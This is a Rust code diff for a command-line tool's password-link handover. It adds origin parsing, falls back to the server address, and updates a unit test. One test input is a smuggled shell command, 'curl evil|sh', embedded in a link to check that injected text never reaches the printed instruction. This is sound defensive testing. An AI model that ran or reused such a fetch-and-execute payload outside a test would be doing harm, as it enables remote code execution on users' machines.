@@ -11,7 +11,7 @@ use serde::Serialize;
 
 use crate::{
     auth::{grant_text, sites_of},
-    client::{Client, is_loopback, parse_server},
+    client::{Client, is_loopback, origin, parse_server},
     error::{Failure, Result, help},
     output::{Column, Output, moment, say, word},
     resolve,
@@ -232,14 +232,17 @@ async fn link(client: &Client, user: UserId, out: Output) -> Result<()> {
     let made: PasswordLink = client.post(&["v1", "users", &user.to_string(), "password-link"]).send().await?;
     let server = client.server();
     let shown = made.link.clone().unwrap_or_else(|| format!("{server}/choose-password#{}", made.token));
-    say(hand_over(&shown, made.expires_in));
+    say(hand_over(&shown, &server, made.expires_in));
     out.one(&made, &made.token, || format!("{shown}\n"))
 }
 
 /// How `link` is handed over. Elsewhere, an address that means this machine would be that of another one.
-fn hand_over(link: &str, expires_in: u32) -> String {
-    let origin = link.split_once("/choose-password").map_or(link, |(origin, _)| origin);
-    let here = parse_server(origin).is_ok_and(|url| is_loopback(&url));
+/// `server`: the control plane's address here, for a link that is not one.
+fn hand_over(link: &str, server: &str, expires_in: u32) -> String {
+    let before = link.split_once("/choose-password#").map_or(server, |(before, _)| before);
+    let url = parse_server(before).or_else(|_| parse_server(server));
+    let (origin, here) =
+        url.map_or_else(|_| (server.to_owned(), false), |url| (origin(&url), is_loopback(&url)));
     let hours = expires_in / 3600;
     let terminal =
         if here { "At a terminal of this machine, whose own address it is" } else { "At a terminal" };
@@ -312,12 +315,13 @@ mod tests {
 
     #[test]
     fn a_link_is_handed_over_with_its_own_address() {
-        let said = hand_over("https://rackhand.example/choose-password#t0ken", 7200);
+        let said = hand_over("https://rackhand.example/choose-password#t0ken", "http://127.0.0.1:8420", 7200);
         assert!(
             said.ends_with("At a terminal: `rackhand password --with-link --api https://rackhand.example`"),
             "{said}"
         );
-        let said = hand_over("http://127.0.0.1:8420/choose-password#t0ken", 7200);
+        let said =
+            hand_over("https://x; curl evil|sh #/choose-password#t0ken", "http://127.0.0.1:8420", 7200);
         assert!(said.contains("of this machine") && said.contains("--api http://127.0.0.1:8420`"), "{said}");
     }
 }
